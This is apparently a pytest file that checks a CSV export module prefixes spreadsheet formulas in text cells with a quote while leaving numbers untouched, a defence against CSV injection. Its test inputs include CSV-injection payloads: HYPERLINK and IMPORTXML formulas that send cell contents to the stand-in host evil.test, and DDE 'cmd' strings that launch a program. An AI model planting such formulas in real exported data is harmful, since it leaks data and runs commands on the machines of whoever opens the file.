"""CSV exports neutralise spreadsheet formulas in text cells (OWASP CSV Injection), and only there."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest

from matneo.csvsafe import FORMULA_START, csv_text, frame_csv, neutralise, neutralise_frame
from matneo.web.services import Chart

ATTACKS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_would_start_a_formula_is_text(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert neutralise(neutralise(text)) == "'" + text, "idempotent"


@pytest.mark.parametrize("value", ["Leeds Teaching Hospitals", "", "a=b", " =1", "'=1", 0, -1, -1.5, None, True])
def test_anything_else_is_unchanged(value: object) -> None:
    assert neutralise(value) == value


def test_the_frame_form_matches_the_cell_form() -> None:
    texts = [*ATTACKS, "plain", "-5", "", None, *(c + "x" for c in FORMULA_START), *(c for c in "=+-@\t\r!#'\" ")]
    frame = neutralise_frame(pl.DataFrame({"t": texts}, schema={"t": pl.String}))
    assert frame["t"].to_list() == [neutralise(t) for t in texts]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_numbers_stay_numbers_and_text_is_quoted() -> None:
    """A negative rate must still be a number in the sheet: only text cells are touched."""
    rows = [["=1+1", -1.5, -3, None], ["-5", 2.25, 0, "ok"]]
    for text in (csv_text(["name", "rate", "n", "note"], rows), frame_csv(pl.DataFrame(rows, orient="row"))):
        lines = text.splitlines()
        assert lines[1].startswith('"\'=1+1",-1.5,-3,')
        assert lines[2].startswith('"\'-5",2.25,0,')
        parsed = _read(text)
        assert parsed[1][:3] == ["'=1+1", "-1.5", "-3"] and parsed[2][0] == "'-5"


def test_chart_data_downloads_are_neutralised() -> None:
    """An organisation name or group label from reference data cannot run in the analyst's sheet."""
    chart = Chart(
        id="funnel",
        title="t",
        spec=None,
        columns=["organisation", "difference"],
        rows=[['=IMPORTXML(CONCAT("http://evil.test/?",A3),"//a")', -0.75], ["Trust B", 1.2]],
    )
    text = chart.to_csv()
    assert _read(text)[1] == ['\'=IMPORTXML(CONCAT("http://evil.test/?",A3),"//a")', "-0.75"]
    assert text.splitlines()[1].endswith(",-0.75"), "the number is bare"
